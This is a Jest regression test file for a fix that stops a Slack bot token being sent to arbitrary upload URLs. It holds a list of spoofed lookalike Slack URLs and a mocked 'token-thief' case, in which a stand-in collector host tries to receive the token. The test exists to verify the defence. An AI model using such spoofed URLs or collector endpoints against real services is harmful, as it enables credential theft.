// Finding 7 of the adversarial review: the Slack bot token went to whatever upload URL a
// dataset.validate job named. It goes only to Slack's file host now.
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import nock from 'nock';
import { Dataset } from '../../src/db/entities/index.js';
import { JOBS } from '../../src/services/ports/job-queue.js';
import { isSlackFileUrl } from '../../src/services/dataset-service.js';
import { startTestAssay, type TestAssay } from '../helpers/server.js';
import { SLACK_ENV } from '../helpers/slack.js';
import { coco, png, seedAndTrain, trainingIn } from '../jobs/pipeline-helpers.js';

let app: TestAssay;
const ds = () => app.ctx.db.dataSource;

beforeAll(async () => {
  nock.disableNetConnect();
  nock.enableNetConnect('127.0.0.1');
  // Private fetch allowed only so that no real DNS is asked; nock answers.
  app = await startTestAssay({ ...SLACK_ENV, ASSAY_ALLOW_PRIVATE_FETCH: 'true', TRAINER_URL: 'https://trainer.example.com', TRAINER_SECRET: 'trainer-secret-0123456789' });
  nock('https://slack.com').persist().post(/.*/).reply(200, { ok: true });
});
afterAll(async () => {
  await app?.stop();
  nock.cleanAll();
  nock.enableNetConnect();
});

describe('Slack uploads', () => {
  it('Slack file hosts only', () => {
    expect(isSlackFileUrl('https://files.slack.com/files-pri/T1-F1/download/coco.json')).toBe(true);
    expect(isSlackFileUrl('https://FILES.slack.com/files-pri/x')).toBe(true);
    for (const u of ['https://evil.example.com/files.slack.com/x', 'https://files.slack.com.evil.example/x', 'http://files.slack.com/x', 'https://files.slack.com:8443/x', 'https://u:p@files.slack.com/x', 'https://slack.com/x', 'not a url']) {
      expect([u, isSlackFileUrl(u)]).toEqual([u, false]);
    }
    // A local Slack stand-in (SLACK_API_URL: tests, the demo) serves its own files.
    expect(isSlackFileUrl('http://127.0.0.1:4567/files-pri/T1-F1/coco.json', 'http://127.0.0.1:4567/api/')).toBe(true);
    expect(isSlackFileUrl('http://127.0.0.1:9999/files-pri/T1-F1/coco.json', 'http://127.0.0.1:4567/api/')).toBe(false);
  });

  it('a job naming another host never sends the token there; the dataset is refused with the reason', async () => {
    const evil = nock('https://collector.example.com').get(/.*/).reply(200, '{}', { 'content-type': 'application/json' });
    const ids = await seedAndTrain(ds(), 'token-thief', { source: 'upload', uri: 'https://collector.example.com/x.json' }, 'remote');
    await app.ctx.queue.now(JOBS.datasetValidate, { ...ids, upload: { url: 'https://collector.example.com/x.json' } });
    const t = await trainingIn(ds(), ids.trainingUid, ['failed', 'training']);
    expect(t.status).toBe('failed');
    expect(t.trainingError).toMatch(/the upload URL is not on Slack's file host \(files\.slack\.com, files\.slack-gov\.com\); the Slack token is not sent there/);
    expect(evil.isDone()).toBe(false);
    expect((await ds().manager.findOneByOrFail(Dataset, { id: ids.datasetId })).status).toBe('invalid');
  });

  it('a files.slack.com upload is fetched with the bot token', async () => {
    const red = await png({ r: 255, g: 0, b: 0 });
    const doc = coco(Array.from({ length: 6 }, () => `data:image/png;base64,${red.toString('base64')}`));
    const slackFile = nock('https://files.slack.com', { reqheaders: { authorization: `Bearer ${SLACK_ENV.SLACK_BOT_TOKEN}` } }).get('/files-pri/T1-F9/download/coco.json').reply(200, JSON.stringify(doc), { 'content-type': 'application/json' });
    nock('https://trainer.example.com').post('/jobs').reply(202, { jobId: 'slack-upload' });
    const url = 'https://files.slack.com/files-pri/T1-F9/download/coco.json';
    const ids = await seedAndTrain(ds(), 'slack-upload', { source: 'upload', uri: url }, 'remote');
    await app.ctx.queue.now(JOBS.datasetValidate, { ...ids, upload: { url } });
    expect((await trainingIn(ds(), ids.trainingUid, ['failed', 'training'], 60_000)).status).toBe('training');
    expect(slackFile.isDone()).toBe(true);
  });
});
